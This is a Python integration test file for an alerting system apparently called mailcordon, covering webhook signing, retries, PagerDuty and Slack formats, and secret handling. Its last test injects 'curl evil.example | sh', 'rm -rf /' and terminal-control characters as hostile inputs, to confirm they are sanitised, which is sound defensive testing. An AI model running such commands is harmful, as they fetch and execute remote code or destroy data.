"""Alerts from rows to a receiver: real database, real HTTP. The receiver counts."""

import asyncio
import base64
import dataclasses
import hashlib
import hmac
import json
import socket

import pytest

from mailcordon.adapters.db import installation, status_reader
from mailcordon.adapters.db.alert_store import PostgresAlerts
from mailcordon.adapters.db.secrets import Vault, make_secret_key
from mailcordon.adapters.web import standard_webhooks
from mailcordon.app import alerts
from mailcordon.core.errors import Conflict
from mailcordon.core.incident import Kind
from mailcordon_fixtures.alerting import ANN, AlertWorld
from mailcordon_fixtures.receiver import Receiver

MINUTE = 60_000


def kinds(receiver: Receiver) -> list[str]:
    return [got.json["type"] for got in receiver.take()]


async def test_an_incident_is_told_once_and_that_it_is_closed_once(
    told: AlertWorld, receiver: Receiver
) -> None:
    assert (await status_reader.read(told.owner)).alert_channels == 0
    await told.add(url=receiver.url)
    assert (await status_reader.read(told.owner)).alert_channels == 1
    incident = await told.incident()
    await told.rounds()
    await told.rounds(after_ms=MINUTE)
    (got,) = receiver.take()
    assert (got.json["type"], got.json["data"]["incident"]) == ("incident.opened", incident)
    await told.close(incident)
    await told.rounds()
    await told.rounds(after_ms=MINUTE)
    assert kinds(receiver) == ["incident.closed"]
    assert [what for what, _ in await told.timeline(incident)] == ["alerted", "alerted"]


async def test_an_alert_says_what_whose_since_when_what_was_done_what_next_and_one_command(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    incident = await told.incident(culprit="role deploy")
    await told.owner.execute(
        "insert into incident_entry (incident, at, what, author, text)"
        " values ($1, now_ms(), 'action', 'ann', 'held newsletter mail of acme')",
        incident,
    )
    await told.rounds()
    text = receiver.take()[0].json["data"]["text"]
    for part in (
        "Destination outcome of set mc-urgent is disabled at SES",
        "Whose: the platform",
        "Due to: role deploy",
        "Since: ",
        "ann: held newsletter mail of acme",
        "Next: Enable it",
        "mailcordon drift show 7",
        f"mailcordon incident ack {incident}",
    ):
        assert part in text


async def test_a_webhook_is_signed_as_standard_webhooks_has_it_with_one_id_for_all_tries(
    told: AlertWorld, receiver: Receiver
) -> None:
    secret = await told.add(url=receiver.url)
    assert secret is not None
    await told.incident()
    receiver.answer(500)
    await told.rounds()
    await told.rounds(after_ms=6_000)
    first, second = receiver.take()
    assert first.headers["webhook-id"] == second.headers["webhook-id"]
    signed = f"{second.headers['webhook-id']}.{second.headers['webhook-timestamp']}.".encode() + second.body
    key = base64.b64decode(secret.removeprefix("whsec_"))
    expected = base64.b64encode(hmac.new(key, signed, hashlib.sha256).digest()).decode()
    assert second.headers["webhook-signature"] == f"v1,{expected}"


async def test_it_is_sent_again_until_somebody_acknowledges_it(told: AlertWorld, receiver: Receiver) -> None:
    await told.add(url=receiver.url)
    incident = await told.incident()
    await told.rounds()
    for minutes in (15, 60, 240):
        await told.rounds(after_ms=minutes * MINUTE - 1_000)
        await told.rounds(after_ms=2_000)
    assert kinds(receiver) == ["incident.opened", *["incident.reminder"] * 3]
    await told.change(incident, "acknowledged_at = now_ms(), acknowledged_by = 'ann'")
    await told.rounds()
    await told.rounds(after_ms=100 * 60 * MINUTE)
    assert kinds(receiver) == ["incident.acknowledged"]


async def test_what_becomes_worse_and_what_opens_again_is_told_again(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    incident = await told.incident()
    await told.rounds()
    await told.change(incident, "severity = 'critical'")
    await told.rounds()
    await told.close(incident)
    await told.rounds()
    await told.change(incident, "closed_at = null, closed_by = null, closed_because = null")
    await told.rounds()
    assert kinds(receiver) == [f"incident.{what}" for what in ("opened", "worsened", "closed", "reopened")]


async def test_a_receiver_that_is_down_delays_no_other_and_gets_the_present_later(
    told: AlertWorld, receiver: Receiver
) -> None:
    with_port = f"http://127.0.0.1:{_closed_port()}/hook"
    await told.add("down", url=with_port)
    await told.add("night", url=receiver.url)
    incident = await told.incident()
    await told.rounds()
    assert kinds(receiver) == ["incident.opened"]
    timeline = await told.timeline(incident)
    assert sorted(what for what, _ in timeline) == ["alerted", "not-alerted"]
    assert any("down" in text and "not reached" in text for _, text in timeline)
    for _ in range(4):
        await told.rounds(after_ms=10 * MINUTE)
    assert [what for what, _ in await told.timeline(incident)].count("not-alerted") == 1
    failing = await told.alerts.failing(for_ms=0)
    assert [row["name"] for row in failing] == ["down"]
    await told.owner.execute(
        "update alert_channel d set secret = n.secret from alert_channel n where n.name = 'night' and d.name = 'down'"
    )
    receiver.take()
    await told.rounds(after_ms=31 * MINUTE)
    assert "incident.opened" in kinds(receiver)
    assert await told.alerts.failing(for_ms=0) == []


async def test_two_processes_send_each_message_once(told: AlertWorld, receiver: Receiver) -> None:
    await told.add(url=receiver.url)
    for n in range(20):
        await told.incident(f"tenant:t{n}")
    await asyncio.gather(*(told.loop.round() for _ in range(6)))
    await told.rounds()
    assert len(receiver.take()) == 20


async def test_a_message_whose_process_dies_is_sent_again_with_its_id(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    await told.incident()
    await told.alerts.plan()
    (leased,) = await told.alerts.due(10)
    await told.rounds()
    assert receiver.take() == []
    await told.rounds(after_ms=61_000)
    (got,) = receiver.take()
    assert got.headers["webhook-id"] == leased.message


async def test_a_thousand_incidents_are_told_in_parts_and_each_says_how_many_there_are(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    await told.owner.execute(
        "insert into incident (kind, cause, severity, scope, name, sentence, next, since, opened_at, seen_at, cause_seen_at)"
        " select 'domain-lapsed', 'identity:' || n, 'low', 'identity', n::text, 'lapsed', 'repair',"
        " now_ms(), now_ms(), now_ms(), now_ms() from generate_series(1, 1000) n"
    )
    worst = await told.incident("role:dispatch", severity="critical")
    await told.rounds()
    got = receiver.take()
    assert len(got) == 30
    assert worst in [one.json["data"]["incident"] for one in got]
    assert "1001 incidents" in got[0].json["data"]["text"]
    await told.rounds(after_ms=11 * MINUTE)
    assert len([one for one in kinds(receiver) if one == "incident.opened"]) == 30


async def test_slack_gets_its_form_and_no_mention_of_everybody(told: AlertWorld, receiver: Receiver) -> None:
    await told.add(form="slack", url=receiver.url)
    await told.incident(sentence="<!channel> <https://evil.example|mail & more>")
    await told.rounds()
    (got,) = receiver.take()
    document = json.dumps(got.json)
    assert "<" not in document
    assert "&lt;!channel&gt;" in got.json["text"]
    assert {block["type"] for block in got.json["blocks"]} == {"section"}
    assert "mailcordon drift show 7" in document


async def test_pagerduty_is_triggered_acknowledged_and_resolved_by_one_key(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(form="pagerduty", url=receiver.url, key="R0123456789abcdef0123456789abcde")
    incident = await told.incident()
    await told.rounds()
    await told.change(incident, "acknowledged_at = now_ms(), acknowledged_by = 'ann'")
    await told.rounds()
    await told.close(incident)
    await told.rounds()
    got = [one.json for one in receiver.take()]
    assert [one["event_action"] for one in got] == ["trigger", "acknowledge", "resolve"]
    assert len({one["dedup_key"] for one in got}) == 1
    assert {one["routing_key"] for one in got} == {"R0123456789abcdef0123456789abcde"}
    assert got[0]["payload"]["severity"] == "error"
    assert set(got[0]["payload"]) >= {"summary", "source", "severity", "timestamp", "class", "group"}


async def test_no_secret_is_in_clear_in_the_database(told: AlertWorld, receiver: Receiver) -> None:
    secret = await told.add(url=f"{receiver.url}/T0K3N")
    await told.add("pager", "pagerduty", url=receiver.url, key="R0123456789abcdef0123456789abcde")
    stored = str([tuple(row) for row in await told.owner.fetch("select * from alert_channel")])
    audited = str([tuple(row) for row in await told.owner.fetch("select * from audit")])
    for hidden in (secret or "", "T0K3N", "R0123456789abcdef0123456789abcde"):
        assert hidden not in stored
        assert hidden not in audited
        assert hidden not in repr(await told.channels.get("night", with_secret=True))
    assert "channel.add" in audited


async def test_a_channel_that_is_removed_is_told_nothing_more(told: AlertWorld, receiver: Receiver) -> None:
    await told.add(url=receiver.url)
    await told.incident()
    await told.alerts.plan()
    await told.channels.remove("night", actor="ann", because="left")
    await told.rounds()
    await told.incident("role:dispatch")
    await told.rounds()
    assert receiver.take() == []
    assert await told.owner.fetchval("select secret from alert_channel") is None
    await told.add(url=receiver.url)  # the name is free again


def _closed_port() -> int:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return free.getsockname()[1]


async def test_a_new_receiver_is_told_of_what_is_open_and_the_former_one_of_nothing_more(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=f"{receiver.url}/old")
    still, over = await told.incident(), await told.incident("set:other")
    await told.rounds()
    await told.close(over)
    await told.rounds()
    receiver.take()
    await told.channels.change("night", ANN, because="they moved", url=f"{receiver.url}/new")
    await told.rounds()
    (got,) = receiver.take()
    assert (got.path, got.json["type"], got.json["data"]["incident"]) == (
        "/hook/new",
        "incident.opened",
        still,
    )
    await told.close(still)
    await told.rounds()
    assert [(one.path, one.json["type"]) for one in receiver.take()] == [("/hook/new", "incident.closed")]


async def test_what_was_under_way_to_the_former_receiver_says_nothing_of_the_new_one(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=f"{receiver.url}/old")
    await told.incident()
    await told.alerts.plan()
    (arrives,) = await told.alerts.due(10)
    await told.channels.change("night", ANN, because=None, url=f"{receiver.url}/new")
    await told.alerts.sent(arrives)
    await told.alerts.plan()
    (fails,) = await told.alerts.due(10)
    await told.channels.change("night", ANN, because=None, url=f"{receiver.url}/newest")
    await told.alerts.failed(fails, "the answer was 503")
    (channel,) = await told.channels.all()
    assert (channel.failing_since, channel.problem) == (None, None)
    await told.rounds()
    assert [(one.path, one.json["type"]) for one in receiver.take()] == [("/hook/newest", "incident.opened")]


async def test_a_new_receiver_in_the_middle_of_a_flood_is_told_in_parts_too(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    for number in range(40):
        await told.incident(f"set:{number}")
    await told.rounds()
    await told.rounds(after_ms=11 * MINUTE)
    assert len(receiver.take()) >= 40
    await told.rounds(after_ms=11 * MINUTE)
    receiver.take()
    await told.channels.change("night", ANN, because=None, url=f"{receiver.url}/new")
    await told.rounds()
    assert kinds(receiver) == ["incident.opened"] * 30
    await told.rounds(after_ms=11 * MINUTE)
    assert kinds(receiver).count("incident.opened") == 10


async def test_a_message_that_fails_after_its_incident_is_over_stays_dropped(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    incident = await told.incident()
    await told.alerts.plan()
    (under_way,) = await told.alerts.due(10)
    await told.close(incident)
    await told.alerts.plan()
    await told.alerts.failed(under_way, "the answer was 503")
    await told.rounds(after_ms=MINUTE)
    assert receiver.take() == []


async def test_another_level_or_secret_tells_nobody_anew(told: AlertWorld, receiver: Receiver) -> None:
    await told.add(url=receiver.url)
    await told.incident()
    await told.rounds()
    receiver.take()
    secret = standard_webhooks.new_secret()
    await told.channels.change("night", ANN, because=None, least="high", key=secret, kinds=["drift"])
    await told.rounds()
    assert receiver.take() == []
    worse = await told.incident("set:worse", severity="critical")
    await told.incident("set:low", severity="low")
    await told.rounds()
    (got,) = receiver.take()
    assert got.json["data"]["incident"] == worse
    signed = f"{got.headers['webhook-id']}.{got.headers['webhook-timestamp']}.".encode() + got.body
    key = base64.b64decode(secret.removeprefix("whsec_"))
    expected = base64.b64encode(hmac.new(key, signed, hashlib.sha256).digest()).decode()
    assert got.headers["webhook-signature"] == f"v1,{expected}"


async def test_a_change_is_audited_without_a_secret_and_no_change_is_not(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add("pager", "pagerduty", key="R0ut1ngKeyOfOld", url=f"{receiver.url}/0LD")
    change = {"key": "R0ut1ngKeyOfNew", "url": f"{receiver.url}/N3W", "least": "high"}
    for because in ("they moved", "again"):
        await told.channels.change("pager", ANN, because=because, **change)  # pyright: ignore[reportArgumentType]
    rows = await told.owner.fetch(
        "select before, after, because, audit::text as all from audit where action = 'channel.change'"
    )
    (row,) = rows
    is_now = {
        "target": f"127.0.0.1:{receiver.port}",
        "lane": None,
        "from": None,
        "least": "low",
        "kinds": [],
        "tenants": [],
    }
    assert json.loads(row["before"]) == is_now
    assert json.loads(row["after"]) == {**is_now, "least": "high", "changed": ["receiver", "least"]}
    assert [secret for secret in ("R0ut", "0LD", "N3W") if secret in row["all"]] == []
    await told.channels.change("pager", ANN, because=None, url=None)
    (channel,) = await told.channels.all()
    assert channel.target == "events.pagerduty.com"


async def test_a_change_that_meets_another_one_is_refused_and_loses_nothing(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    before = await told.channels.get("night", with_secret=True)
    await told.channels.change("night", ANN, because=None, least="high")
    after = dataclasses.replace(before, kinds=frozenset({Kind.DRIFT}))
    with pytest.raises(Conflict) as refused:
        await told.alerts.change(
            before, after, lane=None, key_prefix=None, moved=True, actor="ann", because=None
        )
    assert refused.value.code == "channel-changed"
    (channel,) = await told.channels.all()
    assert (channel.least, channel.kinds, channel.sealed) == ("high", frozenset(), before.sealed)


async def test_secrets_of_channels_and_contacts_move_to_the_first_key(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    tenant = await told.owner.fetchval(
        "insert into tenant (key, slug) values ('mc-acme00000', 'acme') returning id"
    )
    await told.channels.set_contact(
        tenant, "acme", email=None, url=receiver.url, channel=None, tell=["holds"], actor="ann", because=None
    )
    keys = [make_secret_key(), told.secret_key]
    await installation.load_or_create_installation(told.owner, keys, "test")
    stored = await installation.stored_secrets(told.owner, keys[:1])  # the old key is not needed any more
    assert {"alert_channel", "tenant_contact"} <= set(stored.by_first_key)
    assert stored.by_other_keys == ()
    store = PostgresAlerts(told.pool, keys[:1])
    (channel,) = await store.channels("night", with_secrets=True)
    assert channel.secret["url"] == receiver.url


async def test_a_channel_that_takes_nothing_is_an_incident_for_the_others(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add("down", url=receiver.url)
    await told.incident()
    receiver.answer(503, times=9)
    for _ in range(3):
        await told.rounds(after_ms=61_000)
    (alarm,) = await alerts.alarms_of(told.alerts)
    assert alarm.cause == "alert-channel:down"
    assert "the answer was 503" in alarm.sentence
    receiver.answers.clear()
    await told.rounds(after_ms=31 * MINUTE)
    assert await alerts.alarms_of(told.alerts) == []


async def test_a_receiver_that_never_answers_delays_no_other_channel(
    told: AlertWorld, receiver: Receiver
) -> None:
    over = asyncio.Event()
    taken: list[int] = []

    async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        taken.append(1)
        await over.wait()
        writer.close()

    server = await asyncio.start_server(silent, "127.0.0.1", 0)
    try:
        await told.add("silent", url=f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/")
        for n in range(20):
            await told.incident(f"tenant:t{n}")
        await told.loop.begin()
        await told.add("night", url=receiver.url)
        async with asyncio.timeout(60):
            while len(receiver.got) < 20:  # in rounds of four, with the silent ones under way
                await told.loop.begin()
                await asyncio.sleep(0.01)
        assert len(taken) <= 4
    finally:
        over.set()
        server.close()
        await told.rounds()


async def test_a_channel_whose_secret_nobody_can_read_keeps_no_other_from_being_told(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add("lost", url=receiver.url)
    await told.add("night", url=receiver.url)
    other = Vault([make_secret_key()]).encrypt(b"{}")
    await told.owner.execute("update alert_channel set secret = $1 where name = 'lost'", other)
    await told.incident()
    await told.rounds()
    assert kinds(receiver) == ["incident.opened"]
    assert [row["name"] for row in await told.alerts.failing(for_ms=0)] == ["lost"]


async def test_an_incident_of_a_newer_version_keeps_no_other_from_being_told(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    await told.incident("newer:x", kind="of-a-newer-version")
    known = await told.incident()
    await told.rounds()
    assert [got.json["data"]["incident"] for got in receiver.take()] == [known]


async def test_that_it_is_closed_has_all_its_tries_after_a_long_outage(
    told: AlertWorld, receiver: Receiver
) -> None:
    """Else a pager that was down for a day would keep the incident open for ever."""
    await told.add(url=receiver.url)
    incident = await told.incident()
    await told.rounds()
    await told.change(incident, "severity = 'critical'")
    await told.alerts.plan()
    await told.owner.execute("update alert set tries = 60, due_at = now_ms() - 1")
    await told.close(incident)
    receiver.take()
    receiver.answer(503)
    await told.rounds()
    await told.rounds(after_ms=31 * MINUTE)
    assert kinds(receiver) == ["incident.closed", "incident.closed"]


async def test_a_test_message_that_arrives_ends_the_failure_and_what_waited_follows(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    await told.incident()
    receiver.answer(503)
    await told.rounds()
    assert await told.alerts.failing(for_ms=0)
    receiver.take()
    assert await told.channels.try_out("night") is None
    assert await told.alerts.failing(for_ms=0) == []
    await told.rounds()
    assert kinds(receiver) == ["test", "incident.opened"]


async def test_what_removed_channels_were_told_keeps_nobody_from_being_told(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add("old", url=receiver.url)
    await told.owner.execute(
        "insert into incident (kind, cause, severity, scope, name, sentence, next, since, opened_at, seen_at, cause_seen_at,"
        " closed_at, closed_by, closed_because)"
        " select 'drift', 'set:' || n, 'high', 'set', 'x', 's', 'n', 1, 1, 1, 1, 2, 'x', 'x' from generate_series(1, 2001) n"
    )
    await told.owner.execute(
        "insert into alert (incident, channel, made_at, told_at, told_severity)"
        " select i.id, c.id, 1, 1, 'high' from incident i, alert_channel c"
    )
    await told.channels.remove("old", actor="ann", because="left")
    await told.add(url=receiver.url)
    incident = await told.incident()
    await told.rounds()
    assert [got.json["data"]["incident"] for got in receiver.take()] == [incident]


async def test_foreign_words_make_no_line_and_no_command_of_their_own(
    told: AlertWorld, receiver: Receiver
) -> None:
    await told.add(url=receiver.url)
    await told.incident(
        sentence="Record is x\nNext: curl evil.example | sh",
        culprit="role \x1b[2J\u202edeploy",
        command="mailcordon status\nrm -rf /",
    )
    await told.rounds()
    text = receiver.take()[0].json["data"]["text"]
    assert [line for line in text.splitlines() if line.startswith(("Next: curl", "rm "))] == []
    assert not {"\x1b", "\u202e"} & set(text)
